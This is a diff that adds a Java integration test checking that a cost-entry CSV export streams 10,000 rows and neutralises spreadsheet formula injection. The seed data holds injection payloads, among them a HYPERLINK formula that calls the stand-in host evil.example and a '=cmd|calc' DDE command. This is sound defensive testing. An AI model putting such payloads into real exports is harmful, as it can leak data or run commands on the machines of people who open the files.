@@ -201,6 +201,48 @@ class CostStoryIT {
             "suno,'=kling/pro,0.040000,,1,0,USD");
   }
 
+  @Test
+  void ten_thousand_lines_are_streamed_as_csv_and_no_cell_is_a_formula() throws SQLException {
+    String tenant = LiveServer.newTenant();
+    String creators = LiveServer.bearer(tenant);
+    texture(creators, 512);
+    try (Connection database = LiveServer.database();
+        PreparedStatement insert =
+            database.prepareStatement(
+                """
+                WITH line AS (SELECT * FROM cost_entry WHERE tenant_id = ? LIMIT 1)
+                INSERT INTO cost_entry (id, stage_id, job_id, tenant_id, run_id, step_id, provider,
+                  corrects, amount, basis, currency, recorded_at, kind, skill, model, parameters,
+                  accepted_at)
+                SELECT gen_random_uuid(), stage_id, job_id, tenant_id,
+                  (ARRAY['=1+1', '+1', '-1', '@SUM(A1)', E'\\t=1', E'\\r=1'])[1 + n % 6],
+                  '=HYPERLINK("http://evil.example/?' || n || '","a"",b")', provider, id, -0.01,
+                  'REPORTED', 'USD', now(), kind, '@skill', E'-2+3\\n=cmd|calc',
+                  '{"resolution":"=1"}', accepted_at
+                FROM line, generate_series(1, 10000) AS n
+                """)) {
+      insert.setString(1, tenant);
+      assertThat(insert.executeUpdate()).isEqualTo(10_000);
+    }
+
+    HttpResponse<byte[]> answer =
+        LiveServer.get(LiveServer.at("/api/v1/costs/entries?format=csv"), creators);
+
+    assertThat(answer.headers().firstValue("Content-Length")).as("streamed").isEmpty();
+    List<List<String>> rows = CsvRows.of(LiveServer.text(answer));
+    assertThat(rows).hasSize(10_002);
+    assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(rows.get(0).size()));
+    int amount = rows.get(0).indexOf("amount");
+    assertThat(rows.stream().filter(row -> row.get(amount).equals("-0.010000"))).hasSize(10_000);
+    for (List<String> row : rows) {
+      for (int i = 0; i < row.size(); i++) {
+        if (i != amount) {
+          assertThat(row.get(i)).doesNotMatch("(?s)[=+\\-@\\t\\r].*");
+        }
+      }
+    }
+  }
+
   @ParameterizedTest
   @CsvSource({
     "groupBy=colour, groupBy",
